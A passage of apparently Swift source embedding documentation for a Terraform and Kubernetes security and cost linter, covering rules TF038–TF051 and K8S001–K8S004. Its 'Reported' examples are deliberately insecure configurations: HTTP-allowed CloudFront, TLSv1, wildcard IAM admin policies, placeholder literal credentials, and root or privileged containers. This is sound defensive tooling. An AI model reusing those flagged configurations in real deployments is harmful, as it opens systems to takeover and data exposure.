      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }

  default_cache_behavior {
    target_origin_id       = "app"
    viewer_protocol_policy = "allow-all"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
  }

  restrictions {
    geo_restriction {
      restriction_type = "none"
    }
  }

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.cdn.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1.2_2021"
  }
}
```
Not reported:
```hcl
resource "aws_cloudfront_distribution" "cdn" {
  enabled = true
  aliases = ["www.example.com"]

  origin {
    domain_name = "origin.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }

  default_cache_behavior {
    target_origin_id       = "app"
    viewer_protocol_policy = "redirect-to-https"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
  }

  restrictions {
    geo_restriction {
      restriction_type = "none"
    }
  }

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.cdn.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1.2_2021"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF038.md", text: ###"""
---
id: TF038
title: CloudFront accepts TLS versions older than 1.2
kind: hcl
severity: warning
tags: [security]
security-severity: 5.5
references:
  - https://docs.aws.amazon.com/AmazonCloudFront/latest/DeveloperGuide/secure-connections-supported-viewer-protocols-ciphers.html
  - "AWS Foundational Security Best Practices CloudFront.3: CloudFront distributions should require encryption in transit"
equivalents:
  checkov: CKV_AWS_174
  trivy: AWS-0013
---
Reports a `viewer_certificate` with a custom certificate (`acm_certificate_arn` or `iam_certificate_id`) whose `minimum_protocol_version` is older than `TLSv1.2_2019` (warning; `TLSv1.2_2018` is a note for its weaker ciphers) or left out (then `TLSv1`), and the default `*.cloudfront.net` certificate (`cloudfront_default_certificate = true`), which always accepts TLS 1.0 (note).

## Why
TLS 1.0 and 1.1 are deprecated (RFC 8996) and allow downgrade and cipher attacks; compliance regimes forbid them. All maintained browsers support TLS 1.2.

## How to fix
Serve an alias with an ACM certificate and `minimum_protocol_version = "TLSv1.2_2021"` (or a newer policy).

## Example
Reported:
```hcl
resource "aws_cloudfront_distribution" "cdn" {
  enabled = true
  aliases = ["www.example.com"]

  origin {
    domain_name = "origin.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }

  default_cache_behavior {
    target_origin_id       = "app"
    viewer_protocol_policy = "redirect-to-https"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
  }

  restrictions {
    geo_restriction {
      restriction_type = "none"
    }
  }

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.cdn.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1"
  }
}
```
Not reported:
```hcl
resource "aws_cloudfront_distribution" "cdn" {
  enabled = true
  aliases = ["www.example.com"]

  origin {
    domain_name = "origin.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }

  default_cache_behavior {
    target_origin_id       = "app"
    viewer_protocol_policy = "redirect-to-https"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
  }

  restrictions {
    geo_restriction {
      restriction_type = "none"
    }
  }

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.cdn.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1.2_2021"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF039.md", text: ###"""
---
id: TF039
title: Production CloudFront distribution has no WAF
kind: hcl
severity: warning
tags: [security]
security-severity: 5.0
references:
  - "AWS Foundational Security Best Practices CloudFront.6: CloudFront distributions should have WAF enabled"
  - https://docs.aws.amazon.com/waf/latest/developerguide/cloudfront-features.html
equivalents:
  checkov: CKV_AWS_68
  trivy: AWS-0011
options:
  environment: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say."
---
Reports, in production only, an `aws_cloudfront_distribution` without `web_acl_id`. Production is read as for TF006: the `environment` option, an `Environment` tag, provider `default_tags`, or a variable/local named `environment`. Silent when the environment is unknown or not production.

## Why
A web ACL in front of the distribution blocks common exploit payloads, known-bad inputs and abusive clients at the edge, before they reach the origin. A WAF costs a few dollars a month plus requests, which is why the rule only asks for it in production.

## How to fix
Create an `aws_wafv2_web_acl` with `scope = "CLOUDFRONT"` (in us-east-1) using at least the AWS managed common rule set and known-bad-inputs rule group, and set `web_acl_id = aws_wafv2_web_acl.<name>.arn`.

## Example
Reported:
```hcl
resource "aws_cloudfront_distribution" "cdn" {
  enabled = true
  aliases = ["www.example.com"]
  tags = {
    Environment = "production"
  }

  origin {
    domain_name = "origin.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }

  default_cache_behavior {
    target_origin_id       = "app"
    viewer_protocol_policy = "redirect-to-https"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
  }

  restrictions {
    geo_restriction {
      restriction_type = "none"
    }
  }

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.cdn.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1.2_2021"
  }
}
```
Not reported:
```hcl
resource "aws_cloudfront_distribution" "cdn" {
  enabled = true
  aliases = ["www.example.com"]
  web_acl_id = aws_wafv2_web_acl.edge.arn
  tags = {
    Environment = "production"
  }

  origin {
    domain_name = "origin.example.com"
    origin_id   = "app"
    custom_origin_config {
      http_port              = 80
      https_port             = 443
      origin_protocol_policy = "https-only"
      origin_ssl_protocols   = ["TLSv1.2"]
    }
  }

  default_cache_behavior {
    target_origin_id       = "app"
    viewer_protocol_policy = "redirect-to-https"
    allowed_methods        = ["GET", "HEAD"]
    cached_methods         = ["GET", "HEAD"]
    cache_policy_id        = "658327ea-f89d-4fab-a63d-7e88639e58f6"
  }

  restrictions {
    geo_restriction {
      restriction_type = "none"
    }
  }

  viewer_certificate {
    acm_certificate_arn      = aws_acm_certificate.cdn.arn
    ssl_support_method       = "sni-only"
    minimum_protocol_version = "TLSv1.2_2021"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF040.md", text: ###"""
---
id: TF040
title: IAM policy grants every action on every resource
kind: hcl
severity: error
tags: [security]
security-severity: 9.0
references:
  - "AWS Foundational Security Best Practices IAM.1: IAM policies should not allow full \"*\" administrative privileges"
  - "CIS AWS Foundations Benchmark v3.0, 1.16: Ensure IAM policies that allow full \"*:*\" administrative privileges are not attached"
  - https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#grant-least-privilege
equivalents:
  checkov: "CKV_AWS_62, CKV_AWS_1, CKV_AWS_63"
  trivy: AWS-0057
---
Reports an `Allow` statement whose actions include `*` (or `*:*`) and whose resources include `*`, in the `policy` of `aws_iam_policy`, `aws_iam_role_policy`, `aws_iam_user_policy`, `aws_iam_group_policy` or an `aws_iam_role`'s `inline_policy` — written as `jsonencode({...})`, a JSON string or heredoc — and in `data "aws_iam_policy_document"` statements.

## Why
`*` on `*` is full administrator access: whoever holds the policy (or compromises the workload that does) can read every secret, delete every resource and create new administrators. Workloads need a handful of actions on a handful of resources.

## How to fix
List the actions and the resource ARNs the principal uses; IAM Access Analyzer can generate a policy from CloudTrail activity. Keep administrator access for break-glass human roles with MFA, using the AWS managed `AdministratorAccess` policy so it is visible as such.

## Example
Reported:
```hcl
resource "aws_iam_policy" "app" {
  name = "app"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect   = "Allow"
      Action   = "*"
      Resource = "*"
    }]
  })
}
```
Not reported:
```hcl
resource "aws_iam_policy" "app" {
  name = "app"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect   = "Allow"
      Action   = ["s3:GetObject", "s3:PutObject"]
      Resource = "${aws_s3_bucket.uploads.arn}/*"
    }]
  })
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF041.md", text: ###"""
---
id: TF041
title: KMS key is not rotated
kind: hcl
severity: warning
tags: [security]
security-severity: 4.0
references:
  - "AWS Foundational Security Best Practices KMS.4: AWS KMS key rotation should be enabled"
  - "CIS AWS Foundations Benchmark v3.0, 3.6: Ensure rotation for customer-created symmetric CMKs is enabled"
  - https://docs.aws.amazon.com/kms/latest/developerguide/rotate-keys.html
equivalents:
  checkov: CKV_AWS_7
  trivy: AWS-0065
---
Reports a symmetric encryption `aws_kms_key` (no `customer_master_key_spec` or `SYMMETRIC_DEFAULT`, `key_usage` `ENCRYPT_DECRYPT`) whose `enable_key_rotation` is not `true`. Asymmetric and HMAC keys cannot rotate automatically and are skipped.

## Why
Automatic rotation creates new key material yearly (or on the period you set) while keeping old material for decryption, which limits how much data any one key version protects and satisfies most compliance regimes at no operational cost.

## How to fix
Set `enable_key_rotation = true`, optionally `rotation_period_in_days` (90–2560).

## Example
Reported:
```hcl
resource "aws_kms_key" "data" {
  description = "Application data"
}
```
Not reported:
```hcl
resource "aws_kms_key" "data" {
  description         = "Application data"
  enable_key_rotation = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF042.md", text: ###"""
---
id: TF042
title: Secrets Manager secret is never rotated
kind: hcl
severity: note
tags: [security]
security-severity: 3.0
references:
  - "AWS Foundational Security Best Practices SecretsManager.1: Secrets Manager secrets should have automatic rotation enabled"
  - https://docs.aws.amazon.com/secretsmanager/latest/userguide/rotating-secrets.html
equivalents:
  checkov: CKV2_AWS_57
---
Reports an `aws_secretsmanager_secret` with no `aws_secretsmanager_secret_rotation` whose `secret_id` refers to it (by reference or the secret's `name`). It needs the whole module, like the other absence checks, and stays silent when a rotation's `secret_id` cannot be traced. A note: third-party API keys often cannot be rotated by a Lambda.

## Why
A secret that never changes stays valid for as long as any copy of it — in a laptop's shell history, an old container image, a log line — exists. Rotation bounds that window.

## How to fix
Add an `aws_secretsmanager_secret_rotation` with a rotation Lambda and `rotation_rules { automatically_after_days = 30 }`. For RDS master passwords use `manage_master_user_password = true`, which AWS rotates for you.

## Example
Reported:
```hcl
resource "aws_secretsmanager_secret" "api" {
  name = "app/api-key"
}
```
Not reported:
```hcl
resource "aws_secretsmanager_secret" "api" {
  name = "app/api-key"
}

resource "aws_secretsmanager_secret_rotation" "api" {
  secret_id           = aws_secretsmanager_secret.api.id
  rotation_lambda_arn = aws_lambda_function.rotate.arn

  rotation_rules {
    automatically_after_days = 30
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF043.md", text: ###"""
---
id: TF043
title: AWS provider holds literal credentials
kind: hcl
severity: error
tags: [security]
security-severity: 9.5
references:
  - https://registry.terraform.io/providers/hashicorp/aws/latest/docs#authentication-and-configuration
  - https://docs.aws.amazon.com/IAM/latest/UserGuide/best-practices.html#bp-workloads-use-roles
equivalents:
  checkov: CKV_AWS_41
---
Reports `access_key`, `secret_key` or `token` written as a literal string in a `provider "aws"` block. The reported value is masked in the code frame.

## Why
Credentials in a `.tf` file end up in version control, in every clone and CI log, and in the plan and state files. Long-lived access keys are the most common way AWS accounts are compromised.

## How to fix
Remove the arguments and rotate the key (it is in the repository's history). Let the provider find credentials itself: environment variables, a shared profile or SSO for people, an assumed role (OIDC from CI, an instance or task role) for automation.

## Example
Reported:
```hcl
provider "aws" {
  region     = "eu-west-1"
  access_key = "AKIAEXAMPLEEXAMPLE00"
  secret_key = "example-not-a-real-secret-key-0000000000"
}
```
Not reported:
```hcl
provider "aws" {
  region = "eu-west-1"
  assume_role {
    role_arn = "arn:aws:iam::123456789012:role/deployer"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF044.md", text: ###"""
---
id: TF044
title: Instance class is above the monthly budget
kind: hcl
severity: warning
tags: [cost]
references:
  - https://aws.amazon.com/rds/pricing/
  - https://aws.amazon.com/ec2/pricing/on-demand/
  - https://aws.amazon.com/elasticache/pricing/
options:
  max-monthly-usd: "Budget for one instance in USD per month (wins over the other options)."
  max-instance-class: "A class whose price is the budget, e.g. db.t4g.large."
  pattern: "The deployment pattern: hobby-project (50), small-saas (300), production-saas or kubernetes (2000)."
---
Prices the class of each `aws_db_instance` (doubled with `multi_az = true`), `aws_rds_cluster_instance`, `aws_elasticache_replication_group` and `aws_elasticache_cluster` (times their nodes) and `aws_instance`, from a dated table of approximate us-east-1 on-demand prices (`AWSPriceTable.swift`, prices of 2026-06), and reports those above the budget for one instance: the `max-monthly-usd` option, else the price of `max-instance-class`, else the `pattern` budget, else 500 USD a month. The message gives the estimate and the next smaller size of the family that fits. Classes missing from the table are not reported.

## Why
Instance classes are the largest line of most small AWS bills, and they are easy to over-size by copy-paste: a `db.r6g.2xlarge` is about $656 a month before storage, where a small SaaS needs a fraction of that. The estimate makes the cost visible in review.

## How to fix
Pick the smaller class the message suggests, measure, and scale up when metrics say so — or raise the budget with the option when the load needs it.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  instance_class    = "db.r6g.2xlarge"
  allocated_storage = 100
  storage_type      = "gp3"
  storage_encrypted = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  instance_class    = "db.t4g.large"
  allocated_storage = 100
  storage_type      = "gp3"
  storage_encrypted = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF045.md", text: ###"""
---
id: TF045
title: More NAT gateways than the environment needs
kind: hcl
severity: warning
tags: [cost]
references:
  - https://aws.amazon.com/vpc/pricing/
  - https://registry.terraform.io/modules/terraform-aws-modules/vpc/aws/latest#nat-gateway-scenarios
options:
  environment: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say."
---
Reports a terraform-aws-modules/vpc module call with `enable_nat_gateway = true` and neither `single_nat_gateway` nor `one_nat_gateway_per_az` (the module then creates one NAT gateway per subnet, in any environment); with `one_nat_gateway_per_az = true` outside production; and several `aws_nat_gateway` instances outside production. Production is read as for TF006 and the environment must be known for the last two cases. The message gives the monthly cost from the dated price table (about $32.85 per gateway per month before data processing, us-east-1, 2026-06).

## Why
Each NAT gateway bills by the hour whether traffic flows or not. One per Availability Zone is the right trade-off in production (a zone outage does not cut the others off); in development and staging a single gateway is enough, and one per subnet is never needed.

## How to fix
Set `single_nat_gateway = true` outside production and `one_nat_gateway_per_az = true` in production; with plain resources, route every private subnet through one `aws_nat_gateway` outside production.

## Example
Reported:
```hcl
module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "6.0.1"

  name            = "app"
  cidr            = "10.0.0.0/16"
  azs             = ["eu-west-1a", "eu-west-1b", "eu-west-1c"]
  private_subnets = ["10.0.1.0/24", "10.0.2.0/24", "10.0.3.0/24"]
  public_subnets  = ["10.0.101.0/24", "10.0.102.0/24", "10.0.103.0/24"]

  enable_nat_gateway = true
}
```
Not reported:
```hcl
module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "6.0.1"

  name            = "app"
  cidr            = "10.0.0.0/16"
  azs             = ["eu-west-1a", "eu-west-1b", "eu-west-1c"]
  private_subnets = ["10.0.1.0/24", "10.0.2.0/24", "10.0.3.0/24"]
  public_subnets  = ["10.0.101.0/24", "10.0.102.0/24", "10.0.103.0/24"]

  enable_nat_gateway = true
  single_nat_gateway = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF046.md", text: ###"""
---
id: TF046
title: Volume uses gp2 where gp3 is cheaper or faster
kind: hcl
severity: warning
tags: [cost]
references:
  - https://aws.amazon.com/ebs/pricing/
  - https://aws.amazon.com/rds/postgresql/pricing/
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/CHAP_Storage.html#gp3-storage
---
Reports EBS volumes on `gp2` — `aws_ebs_volume` with `type = "gp2"` or no `type` (the API default), and `gp2` root/EBS block devices of `aws_instance` and `aws_launch_template` — with the monthly saving of gp3 ($0.08 instead of $0.10 per GB-month, us-east-1, 2026-06). For `aws_db_instance` (not Aurora) with `storage_type = "gp2"` or no `storage_type` (AWS then uses gp2) the finding is a note: on RDS gp3 costs the same per GB but includes 3,000 IOPS where gp2 gives 3 IOPS per GB.

## Why
gp3 is 20% cheaper than gp2 on EBS and includes 3,000 IOPS and 125 MiB/s regardless of size, where gp2 ties performance to size (3 IOPS per GB): small gp2 volumes are slow and teams over-provision size to buy IOPS. Migration is online.

## How to fix
Set `type = "gp3"` (EBS), `volume_type = "gp3"` (block devices) or `storage_type = "gp3"` (RDS); the change applies in place.

## Example
Reported:
```hcl
resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 500
  type              = "gp2"
  encrypted         = true
}
```
Not reported:
```hcl
resource "aws_ebs_volume" "data" {
  availability_zone = "eu-west-1a"
  size              = 500
  type              = "gp3"
  encrypted         = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF047.md", text: ###"""
---
id: TF047
title: CloudWatch log group keeps logs forever
kind: hcl
severity: warning
tags: [cost]
references:
  - https://aws.amazon.com/cloudwatch/pricing/
  - "AWS Foundational Security Best Practices CloudWatch.16: CloudWatch log groups should be retained for a specified time period (at least a year by default)"
equivalents:
  checkov: CKV_AWS_66
---
Reports an `aws_cloudwatch_log_group` whose `retention_in_days` is left out or `0`: CloudWatch then never deletes its logs. The message gives the storage price from the dated table ($0.03 per GB-month, us-east-1, 2026-06).

## Why
Log storage grows every day and is never reclaimed: a service writing 10 GB a day holds 3.6 TB after a year, about $110 a month and rising, mostly for logs nobody will read. A retention matching your policy bounds it. (Security Hub's CloudWatch.16 asks for at least 365 days; choose the retention your obligations require, but choose one.)

## How to fix
Set `retention_in_days` to 30, 90, 365… as policy requires; archive to S3 with a lifecycle rule if logs must be kept longer cheaply.

## Example
Reported:
```hcl
resource "aws_cloudwatch_log_group" "app" {
  name = "/ecs/app"
}
```
Not reported:
```hcl
resource "aws_cloudwatch_log_group" "app" {
  name              = "/ecs/app"
  retention_in_days = 90
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF048.md", text: ###"""
---
id: TF048
title: Autoscaling has no useful upper bound
kind: hcl
severity: warning
tags: [cost]
references:
  - https://docs.aws.amazon.com/amazondynamodb/latest/developerguide/on-demand-capacity-mode-max-throughput.html
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/USER_PIOPS.Autoscaling.html
  - https://docs.aws.amazon.com/autoscaling/application/userguide/what-is-application-auto-scaling.html
options:
  max-capacity: "The largest acceptable max_size / max_capacity of an Auto Scaling group or Application Auto Scaling target (default 50)."
---
Reports capacity that can grow far beyond the expected load: an on-demand (`PAY_PER_REQUEST`) `aws_dynamodb_table` without an `on_demand_throughput` block; an `aws_db_instance` whose storage autoscaling ceiling (`max_allocated_storage`) is more than ten times `allocated_storage` (with the storage cost at the ceiling); and an `aws_autoscaling_group` `max_size` or `aws_appautoscaling_target` `max_capacity` above the `max-capacity` option (default 50).

## Why
Autoscaling protects availability, but without a ceiling matched to the budget a retry storm, a bot or a bug scales the bill instead — and RDS storage never shrinks once grown. A tested maximum turns a surprise invoice into an alert.

## How to fix
Set `on_demand_throughput { max_read_request_units, max_write_request_units }` on on-demand tables, keep `max_allocated_storage` within a few times the expected size, and cap scaling at the largest load you have tested and budgeted.

## Example
Reported:
```hcl
resource "aws_dynamodb_table" "events" {
  name         = "events"
  billing_mode = "PAY_PER_REQUEST"
  hash_key     = "id"

  attribute {
    name = "id"
    type = "S"
  }
}
```
Not reported:
```hcl
resource "aws_dynamodb_table" "events" {
  name         = "events"
  billing_mode = "PAY_PER_REQUEST"
  hash_key     = "id"

  attribute {
    name = "id"
    type = "S"
  }

  on_demand_throughput {
    max_read_request_units  = 2000
    max_write_request_units = 1000
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF049.md", text: ###"""
---
id: TF049
title: Provisioned IOPS storage on a small database
kind: hcl
severity: warning
tags: [cost]
references:
  - https://aws.amazon.com/rds/postgresql/pricing/
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/CHAP_Storage.html
---
Reports an `aws_db_instance` with `storage_type` `io1` or `io2` and either less than 400 GB of `allocated_storage` or a burstable `db.t*` class. The message gives the monthly price of the provisioned IOPS from the dated table ($0.10 per IOPS-month, us-east-1, 2026-06).

## Why
Provisioned IOPS bill per IOPS per month on top of storage: 3,000 IOPS are about $300 a month. gp3 includes 3,000 IOPS at no extra cost, which is more than small databases (and burstable instances, whose CPU runs out first) can use.

## How to fix
Use `storage_type = "gp3"`; add provisioned IOPS only when measured load needs more than gp3 provides.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  instance_class    = "db.t4g.medium"
  allocated_storage = 100
  storage_type      = "io1"
  iops              = 3000
  storage_encrypted = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  instance_class    = "db.t4g.medium"
  allocated_storage = 100
  storage_type      = "gp3"
  storage_encrypted = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF050.md", text: ###"""
---
id: TF050
title: Non-production ECS service does not use Fargate Spot
kind: hcl
severity: note
tags: [cost]
references:
  - https://aws.amazon.com/fargate/pricing/
  - https://docs.aws.amazon.com/AmazonECS/latest/developerguide/fargate-capacity-providers.html
options:
  environment: "The deployment's environment (`production`, `staging`…), overriding what tags and variables say."
---
Reports an `aws_ecs_service` with `launch_type = "FARGATE"`, or a `capacity_provider_strategy` using only `FARGATE`, when the environment is known and not production (read as for TF006). When the task definition's `cpu`/`memory` and the `desired_count` are known, the message estimates the monthly on-demand cost and the Spot saving (about 70%, prices of 2026-06).

## Why
Fargate Spot runs the same tasks on spare capacity for about 70% less; tasks can be interrupted with two minutes' notice, which development and staging services tolerate. Production can mix a `FARGATE` base with Spot on top.

## How to fix
Replace `launch_type` with `capacity_provider_strategy { capacity_provider = "FARGATE_SPOT" weight = 1 }` (plus `{ capacity_provider = "FARGATE" base = 1 }` if one task must never pause), and register both providers on the cluster with `aws_ecs_cluster_capacity_providers`.

## Example
Reported:
```hcl
resource "aws_ecs_task_definition" "web" {
  family                   = "web"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 1024
  memory                   = 2048
  container_definitions    = jsonencode([{ name = "web", image = "web:1", readonlyRootFilesystem = true }])
}

resource "aws_ecs_service" "web" {
  name            = "web"
  cluster         = aws_ecs_cluster.main.id
  task_definition = aws_ecs_task_definition.web.arn
  desired_count   = 2
  launch_type     = "FARGATE"

  tags = {
    Environment = "staging"
  }
}
```
Not reported:
```hcl
resource "aws_ecs_task_definition" "web" {
  family                   = "web"
  requires_compatibilities = ["FARGATE"]
  network_mode             = "awsvpc"
  cpu                      = 1024
  memory                   = 2048
  container_definitions    = jsonencode([{ name = "web", image = "web:1", readonlyRootFilesystem = true }])
}

resource "aws_ecs_service" "web" {
  name            = "web"
  cluster         = aws_ecs_cluster.main.id
  task_definition = aws_ecs_task_definition.web.arn
  desired_count   = 2

  capacity_provider_strategy {
    capacity_provider = "FARGATE_SPOT"
    weight            = 1
  }

  tags = {
    Environment = "staging"
  }
}
```
"""###),
        EmbeddedDocument(path: "Rules/hcl/TF051.md", text: ###"""
---
id: TF051
title: RDS may enter paid Extended Support automatically
kind: hcl
severity: note
tags: [cost]
references:
  - https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/extended-support.html
  - "https://aws.amazon.com/rds/pricing/ (RDS Extended Support)"
  - https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#engine_lifecycle_support
---
Reports an RDS for MySQL or PostgreSQL `aws_db_instance`, or an Aurora MySQL/PostgreSQL `aws_rds_cluster`, without `engine_lifecycle_support`. AWS then enrolls the database in RDS Extended Support when its major version reaches the end of standard support, billed per vCPU-hour (about $0.10 in years 1–2 and twice that in year 3, prices of 2026-06); the message estimates the monthly charge from the instance class. Databases whose engine is unknown are skipped.

## Why
Extended Support starts silently: no resource changes, only a new line on the bill — about $146 a month for a 2-vCPU instance, $584 for an 8-vCPU one, on top of the instance price. Opting out makes AWS upgrade the major version at end of support instead, which you then plan for.

## How to fix
Set `engine_lifecycle_support = "open-source-rds-extended-support-disabled"` and schedule major upgrades before the end of standard support; keep `open-source-rds-extended-support` only as a deliberate, budgeted choice.

## Example
Reported:
```hcl
resource "aws_db_instance" "main" {
  identifier        = "app"
  engine            = "postgres"
  engine_version    = "17.2"
  instance_class    = "db.m7g.large"
  allocated_storage = 100
  storage_type      = "gp3"
  storage_encrypted = true
}
```
Not reported:
```hcl
resource "aws_db_instance" "main" {
  identifier               = "app"
  engine                   = "postgres"
  engine_version           = "17.2"
  engine_lifecycle_support = "open-source-rds-extended-support-disabled"
  instance_class           = "db.m7g.large"
  allocated_storage        = 100
  storage_type             = "gp3"
  storage_encrypted        = true
}
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S001.md", text: ###"""
---
id: K8S001
title: Container may run as root
kind: kubernetes
severity: warning
tags: [security]
security-severity: 6.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.7: Minimize the admission of root containers"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"
  - "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": non-root containers"
equivalents:
  checkov: CKV_K8S_23
  kube-linter: run-as-non-root
  trivy: KSV-0012
---
Reports a container (init and ephemeral containers included) whose effective security context — its own, else the pod's — neither sets `runAsNonRoot: true` nor a non-zero `runAsUser`. A pod-level `runAsNonRoot: false` inherited by several containers is reported once, at the pod's setting.

## Why
Without `runAsNonRoot` the image decides the user, and most images run as root. A root process in a container is one kernel bug or one mis-mounted volume away from root on the node. The Pod Security Standards' *restricted* profile requires `runAsNonRoot: true`. A container that sets `runAsUser` to a non-zero UID passes (it cannot be root); `runAsUser: 0` is K8S002's finding. Windows pods (`spec.os.name: windows`) are not checked.

## How to fix
Set `runAsNonRoot: true` and a numeric `runAsUser` above 10000 in the pod's `securityContext` (containers inherit it; a container's own setting wins). Use the same UID as the image's `USER`, by number: `runAsNonRoot` cannot verify a user name.

## Example
Reported:
```yaml
spec:
  containers:
    - name: web
      image: registry.example.com/web:1.4.2
```
Not reported:
```yaml
spec:
  securityContext:
    runAsNonRoot: true
    runAsUser: 10001
  containers:
    - name: web
      image: registry.example.com/web:1.4.2
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S002.md", text: ###"""
---
id: K8S002
title: Container runs as UID 0
kind: kubernetes
severity: error
tags: [security]
security-severity: 7.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.7: Minimize the admission of root containers"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"
equivalents:
  trivy: KSV-0105
---
Reports `runAsUser: 0` on a container, or on the pod when at least one container inherits it (reported once at the pod's setting, naming the containers).

## Why
UID 0 is root: every file the container can reach, every capability it keeps and every kernel bug it meets is root's. With `runAsNonRoot: true` beside it the kubelet refuses to start the container, so the setting is either dangerous or broken.

## How to fix
Run as a numeric UID above 10000 (`runAsUser: 10001`) and add `runAsNonRoot: true`. If the image needs root to bind a low port, use a port above 1024 or add only `NET_BIND_SERVICE`.

## Example
Reported:
```yaml
securityContext:
  runAsUser: 0
```
Not reported:
```yaml
securityContext:
  runAsNonRoot: true
  runAsUser: 10001
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S003.md", text: ###"""
---
id: K8S003
title: Privileged container
kind: kubernetes
severity: error
tags: [security]
security-severity: 9.0
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.2: Minimize the admission of privileged containers"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#baseline"
  - "NSA/CISA Kubernetes Hardening Guide v1.2 (2022), \"Kubernetes Pod security\": \"Use privileged containers only when needed\""
equivalents:
  checkov: CKV_K8S_16
  kube-linter: privileged-container
  trivy: KSV-0017
---
Reports `securityContext.privileged: true` on any container, init and ephemeral containers included.

## Why
A privileged container gets every Linux capability, every device of the host and no seccomp or AppArmor confinement: escaping to the node is trivial. The baseline profile of the Pod Security Standards forbids it.

## How to fix
Remove `privileged: true`. Add only the capabilities the workload needs (K8S007 explains which are dangerous) or use a device plugin for hardware access.

## Example
Reported:
```yaml
securityContext:
  privileged: true
```
Not reported:
```yaml
securityContext:
  privileged: false
  allowPrivilegeEscalation: false
  capabilities:
    drop: [ALL]
```
"""###),
        EmbeddedDocument(path: "Rules/kubernetes/K8S004.md", text: ###"""
---
id: K8S004
title: Privilege escalation allowed
kind: kubernetes
severity: warning
tags: [security]
security-severity: 5.5
references:
  - "CIS Kubernetes Benchmark v1.24+, 5.2.6: Minimize the admission of containers with allowPrivilegeEscalation"
  - "https://kubernetes.io/docs/concepts/security/pod-security-standards/#restricted"
equivalents:
  checkov: CKV_K8S_20
  kube-linter: privilege-escalation-container
  trivy: KSV-0001
---
